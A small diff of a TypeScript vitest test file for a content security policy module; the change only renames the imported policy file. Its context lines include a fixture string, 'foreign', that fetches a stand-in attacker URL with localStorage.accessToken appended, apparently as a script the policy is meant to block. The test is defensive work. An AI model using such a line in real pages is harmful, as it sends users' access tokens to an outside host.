@@ -1,7 +1,7 @@
 import { createHash } from "node:crypto";
 import { expect, test } from "vitest";
 import { noOrigins } from "../../kernel/payment-origins.ts";
-import { policyFor } from "./page-security.server.ts";
+import { policyFor } from "./content-security-policy.server.ts";
 
 const own = "document.documentElement.dataset.theme = 'dark'";
 const foreign = "fetch('https://evil.example/' + localStorage.accessToken)";
